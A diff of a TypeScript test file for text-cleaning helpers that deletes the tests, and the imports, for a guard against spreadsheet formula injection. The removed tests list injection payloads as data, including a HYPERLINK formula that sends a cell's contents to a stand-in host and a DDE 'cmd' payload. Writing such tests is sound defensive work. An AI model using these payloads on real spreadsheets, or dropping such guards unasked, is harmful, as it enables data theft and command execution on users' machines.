@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { cleanLine, cleanLines, guardFormula, titleCase, withoutGuard } from '../../../src/sync/mapping/text.ts';
+import { cleanLine, cleanLines, titleCase } from '../../../src/sync/mapping/text.ts';
 
 /** Texts with difficult characters: controls, lone surrogates, combining accents, direction marks, formulas, apostrophes. */
 const hostile = fc
@@ -95,49 +95,6 @@ describe('a text is cleaned', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'grapheme' }), (text) => {
         expect(seen(cleanLine(text))).toBe(seen(text));
-      }),
-      { numRuns: 1_000 },
-    );
-  });
-});
-
-describe('the guard against formulas', () => {
-  test.each([
-    '=HYPERLINK("http://x.test/"&A1,"x")',
-    "+cmd|' /C calc'!A0",
-    '-2+3+cmd',
-    '@SUM(1+9)*cmd',
-    '\t=1+1',
-    '\r=1+1',
-    '＝1+1',
-    '-',
-    '+39 06 / 123 ask Maria',
-    "'=1+1",
-  ])('puts an apostrophe before %j', (text) => {
-    expect(guardFormula(text)).toBe(`'${text}`);
-  });
-
-  test.each(['+390612345678', '-12.5', '-12,50', '+1', 'Rossi', "'t Hooft", 'a=b', '', '1-2', 'x@y.test', '–dash'])(
-    'does not change %j',
-    (text) => {
-      expect(guardFormula(text)).toBe(text);
-    },
-  );
-
-  test('loses nothing: every text can be had back', () => {
-    fc.assert(
-      fc.property(hostile, (text) => {
-        expect(withoutGuard(guardFormula(text))).toBe(text);
-      }),
-      { numRuns: 1_000 },
-    );
-  });
-
-  test('leaves nothing that a spreadsheet takes for a formula', () => {
-    fc.assert(
-      fc.property(hostile, (text) => {
-        const guarded = guardFormula(text);
-        expect(/^[=+\-@\t\r\n＝＋－＠]/.test(guarded) && !/^[+-]\d+([.,]\d+)?$/.test(guarded)).toBe(false);
       }),
       { numRuns: 1_000 },
     );
